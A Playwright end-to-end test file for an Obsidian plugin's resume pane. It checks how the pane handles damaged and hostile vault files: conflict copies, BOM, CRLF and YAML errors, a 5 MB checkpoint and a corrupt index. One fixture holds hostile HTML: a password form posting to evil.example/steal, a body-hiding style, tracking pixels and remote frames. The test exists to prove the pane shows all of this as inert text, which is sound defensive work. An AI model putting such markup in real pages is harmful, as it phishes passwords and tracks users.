/**
 * A damaged vault in real Chromium: test/fixtures/vault-own (sync-conflict copies, a BOM, CRLF
 * and YAML-error files, an empty file, a duplicate, a frontmatter project pointing elsewhere)
 * plus vault-hostile's `delta` scope with its generated 5 MB checkpoint and 5,000-level YAML.
 * The pane names each problem and still shows the rest of the scope; the 5 MB State comes folded
 * behind "Show all". Then the plugin's index file is garbage before the page loads: the person is
 * told once, and the pane works from the vault. A checkpoint whose State is HTML built to act
 * (a form, a style hiding the app, tracking pixels, frames, an embed) shows as text, and the
 * page asks nothing of another host.
 *
 * What the host cannot serve is left to the reliability tests: links, FIFOs and folders where
 * checkpoints should be never reach the page (the server lists regular files only).
 */
import { cpSync, mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { bigCheckpoint, deepYamlCheckpoint } from '../reliability/lib/hostile-vault';
import { openResumePane, PANE, ROOT, screenshot, statusText, useHost, waitForPane } from './helpers';

const D1 = 'sessions/delta/_convos/d0000000-0000-4000-8000-00000000d001';
/** A checkpoint whose State is HTML built to act: a form, a style that hides the app, frames, tracking pixels, an embed. */
const ZETA = 'sessions/zeta/_convos/f0000000-0000-4000-8000-00000000f001/20261206-090000-claude.md';
const HOSTILE_STATE = [
	'the exporter streams rows now: ![[secret plan]] and `Vec<String>` stays code',
	'',
	'<form action="https://evil.example/steal" method="post"><input type="password" name="pw" placeholder="Vault password"><button>Unlock</button></form>',
	'',
	'<style>body{display:none}</style>',
	'',
	'<div style="position:fixed;inset:0;z-index:9999;background:red">covered</div>',
	'',
	'<img src="https://track.example/pixel.gif"> ![pixel](https://track.example/md.gif) ![x](//track.example/proto.gif)',
	'',
	'<iframe src="https://evil.example/frame"></iframe><video src="https://evil.example/v.mp4"></video><link rel="stylesheet" href="https://evil.example/s.css">',
].join('\n');
const ZETA_TEXT = `---
type: checkpoint
title: zeta — 20261206-090000-claude
project: zeta
agent: claude
session: 20261206-090000-claude
host_session: f0000000-0000-4000-8000-00000000f001
first_seen: 2026-12-06
checkpointed: 2026-12-06T09:00:00-08:00
---

## Task

stream the export

## State

${HOSTILE_STATE}

## Next

ship it
`;
const D2 = 'sessions/delta/_convos/d0000000-0000-4000-8000-00000000d002';
const BIG = `${D1}/20261205-090000-claude.md`;
/** What the plugin says once when its index file cannot be read (src/vault/obsidian-store.ts NOTICE.rebuilt). */
const REBUILT = 'Logos index could not be read, so it was rebuilt from the vault. Nothing is lost.';

const served = useHost(join(ROOT, 'test/fixtures/vault-own'), {
	// The served copy gets vault-hostile's delta scope and the files too big or too odd to commit.
	prepare: (host) => {
		cpSync(join(ROOT, 'test/fixtures/vault-hostile/sessions/delta'), join(host.dir, 'sessions/delta'), { recursive: true });
		writeFileSync(join(host.dir, ...BIG.split('/')), bigCheckpoint());
		writeFileSync(join(host.dir, ...`${D2}/20261204-120000-codex.md`.split('/')), deepYamlCheckpoint());
		mkdirSync(join(host.dir, ...ZETA.split('/').slice(0, -1)), { recursive: true });
		writeFileSync(join(host.dir, ...ZETA.split('/')), ZETA_TEXT);
		writeFileSync(join(host.dir, 'secret plan.md'), '# secret plan\n\nSECRET PLAN: never shown in the pane\n');
	},
});

async function showScope(page: Page, scope: string): Promise<void> {
	await page.selectOption(`${PANE} select.logos-scope-select`, scope);
	await waitForPane(page, scope);
}

/** The pane's notices: each problem's name and its detail. */
async function problems(page: Page): Promise<string[]> {
	return page.locator(`${PANE} [data-section="problems"] li`).allTextContents();
}

test('conflict copies, BOM, CRLF and YAML errors are named as problems, and the rest of the scope still shows', async () => {
	const { page, errors } = await served.open();
	await openResumePane(page);
	await showScope(page, 'beta');
	const pane = page.locator(PANE);
	// The latest checkpoint, its findings and the earlier rulings are all there.
	expect(await pane.locator('.logos-who').textContent()).toMatch(/^codex · /);
	expect(await pane.locator('.logos-handoff').textContent()).toContain('cut release 2.0 with the TOML loader');
	expect(await pane.locator('[data-section="ruled-out"]').textContent()).toContain('tomllib — it only ships with Python 3.11 and beta supports 3.10');
	expect(await pane.locator('[data-part="next"]').textContent()).toContain('announce 2.0 in the discussions board');
	const shown = await problems(page);
	const has = (start: string, detail: RegExp): boolean => shown.some((p) => p.startsWith(start) && detail.test(p));
	expect(shown[0]).toBe('2 conflict or duplicate copies of checkpoints — compare and delete them');
	expect(has('Sync conflict copy', /icloud\) of 20261120-120000-codex\.md/)).toBe(true);
	expect(has('Duplicate record', /second copy of 20261114-090000-codex/)).toBe(true);
	expect(has('Empty checkpoint file', /torn write/)).toBe(true);
	expect(has('Project does not match its folder', /"\.\.\/\.\.\/\.obsidian"/)).toBe(true);
	expect(has('Malformed checkpoint', /byte order mark|BOM/i)).toBe(true);
	expect(has('Malformed checkpoint', /CRLF/)).toBe(true);
	expect(has('Malformed checkpoint', /not valid YAML/)).toBe(true);
	await pane.locator('[data-section="problems"] > .logos-section-title').click();
	await pane.locator('[data-section="problems"]').scrollIntoViewIfNeeded();
	await screenshot(page, 'hostile-problems');
	expect(errors).toEqual([]);
	await page.context().close();
});

test('a 5 MB checkpoint is the latest, its State folded behind "Show all", with the rest of the scope around it', async () => {
	const { page, errors } = await served.open();
	await openResumePane(page);
	await showScope(page, 'delta');
	const pane = page.locator(PANE);
	expect(await pane.locator('.logos-who').textContent()).toMatch(/^claude · /);
	expect(await pane.locator('.logos-handoff').textContent()).toContain('stream the billing export');
	const state = pane.locator('[data-section="state"]');
	expect(await state.locator('.logos-block').getAttribute('class')).toContain('logos-folded');
	expect(await state.locator('button.logos-show-all').textContent()).toBe('Show all');
	// Folded means only the start is on the page, not 5 MB clipped by a style.
	expect(((await state.locator('.logos-block').textContent()) ?? '').length).toBeLessThan(3000);
	expect(await pane.locator('[data-section="failed"]').textContent()).toContain('buffering every row before writing doubled memory');
	expect(await pane.locator('[data-part="next"]').textContent()).toContain('ship the streaming importer');
	// Earlier rulings keep their verdicts even with escape sequences and a BOM in their text.
	expect(await pane.locator('[data-section="ruled-out-retired"] > .logos-section-title .logos-section-count').textContent()).toBe('1');
	expect(await pane.locator('[data-section="ruled-out"] li.logos-is-reconfirmed').textContent()).toContain('the BOM ruling: reading the export as UTF-16');
	const shown = await problems(page);
	expect(shown.some((p) => p.startsWith('Malformed checkpoint') && /nests deeper than 200 levels/.test(p))).toBe(true);
	await screenshot(page, 'hostile-big-checkpoint');
	expect(errors).toEqual([]);
	await page.context().close();
});

test('HTML in agent text: no form, no style, no remote request, and the app stays visible', async () => {
	const { page, errors } = await served.open();
	// Every request off this machine is counted and refused.
	const remote: string[] = [];
	await page.context().route(
		(url) => !['127.0.0.1', 'localhost'].includes(url.hostname),
		async (route) => {
			remote.push(route.request().url());
			await route.abort();
		},
	);
	await openResumePane(page);
	await showScope(page, 'zeta');
	const state = page.locator(`${PANE} [data-section="state"]`);
	await state.locator('code', { hasText: 'Vec<String>' }).waitFor({ state: 'attached' });
	// Short enough to show whole: nothing is hidden behind "Show all".
	expect(await state.locator('button.logos-show-all').count()).toBe(0);
	// What the agent wrote reads as text; none of it acts.
	expect(await state.textContent()).toContain('<form action="https://evil.example/steal" method="post">');
	expect(await page.locator(`${PANE} form, ${PANE} input, ${PANE} iframe, ${PANE} video, ${PANE} img`).count()).toBe(0);
	expect(await page.locator(`${PANE} [data-section="state"] style, ${PANE} [data-section="state"] [style], ${PANE} link`).count()).toBe(0);
	// The embed is a plain link to the note, never its content.
	expect(await state.locator('a.internal-link', { hasText: 'secret plan' }).count()).toBe(1);
	expect(await state.textContent()).not.toContain('SECRET PLAN');
	// The app is still there to see.
	expect(await page.evaluate(() => getComputedStyle(document.body).display)).not.toBe('none');
	expect(await page.locator(`${PANE} .logos-who`).isVisible()).toBe(true);
	expect(await page.locator('.status-bar-item.plugin-logos-continuity.logos-status').isVisible()).toBe(true);
	await screenshot(page, 'hostile-html');
	expect(remote).toEqual([]);
	expect(errors).toEqual([]);
	await page.context().close();
});

test('a damaged index file: the person is told once, and the pane and the status bar keep working', async () => {
	const dir = join(served.host.dir, '.obsidian', 'plugins', 'logos-continuity');
	mkdirSync(dir, { recursive: true });
	writeFileSync(join(dir, 'index.db'), Buffer.from('SQLite format 3\u0000 but then nothing a database would hold '.repeat(64)));
	const { page, errors } = await served.open();
	await openResumePane(page);
	await showScope(page, 'alpha');
	expect(await page.locator(`${PANE} .logos-who`).textContent()).toMatch(/^claude · /);
	// With no note open, the status bar counts every scope's working notes.
	await page.waitForFunction(() => /^[^:]+: \d+ uncommitted notes\b/.test(document.querySelector('.status-bar-item.plugin-logos-continuity.logos-status')?.textContent ?? ''));
	const count = Number(/: (\d+) uncommitted/.exec(await statusText(page))?.[1]);
	expect(await page.locator('.notice', { hasText: REBUILT }).count()).toBe(1);
	await screenshot(page, 'damaged-index');

	// The rebuilt index keeps up with the vault: a note arrives, and is counted.
	await page.evaluate(async () => {
		const app = window.host?.app as { vault: { getFileByPath(p: string): unknown; process(f: unknown, fn: (t: string) => string): Promise<string> } };
		await app.vault.process(app.vault.getFileByPath('sessions/alpha/uncommitted.md'), (t) => `${t}- the limiter is on in staging <!-- ts=1796000000 agent=codex -->\n`);
	});
	await page.waitForFunction((n) => (document.querySelector('.status-bar-item.plugin-logos-continuity.logos-status')?.textContent ?? '').includes(`: ${n} uncommitted notes`), count + 1);
	await page.locator(`${PANE} [data-section="notes"] li`, { hasText: 'the limiter is on in staging' }).waitFor({ state: 'attached' });
	// Told once: not again as the index catches up.
	const told = (await page.evaluate(() => [...(window.host?.notices ?? [])])).filter((n) => n === REBUILT);
	expect(told).toHaveLength(1);
	expect(errors).toEqual([]);
	await page.context().close();
});
